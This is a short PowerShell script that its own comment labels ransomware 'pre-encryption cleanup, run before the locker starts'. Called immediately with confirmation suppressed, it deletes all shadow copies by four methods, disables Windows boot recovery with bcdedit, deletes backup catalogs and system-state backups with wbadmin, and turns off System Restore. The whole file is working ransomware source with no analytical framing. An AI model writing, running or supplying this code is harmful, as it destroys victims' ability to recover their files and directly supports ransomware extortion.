# pre-encryption cleanup, run before the locker starts
function Remove-RecoveryOption {
    [CmdletBinding(SupportsShouldProcess)]
    param()

    if ($PSCmdlet.ShouldProcess('local machine', 'remove recovery options')) {
        vssadmin.exe delete shadows /all /quiet
        wmic shadowcopy delete /nointeractive
        Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance
        Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }

        bcdedit /set '{default}' recoveryenabled No
        bcdedit /set '{default}' bootstatuspolicy ignoreallfailures
        wbadmin delete catalog -quiet
        wbadmin.exe delete systemstatebackup -keepVersions:0

        Disable-ComputerRestore -Drive 'C:\'
    }
}

Remove-RecoveryOption -Confirm:$false
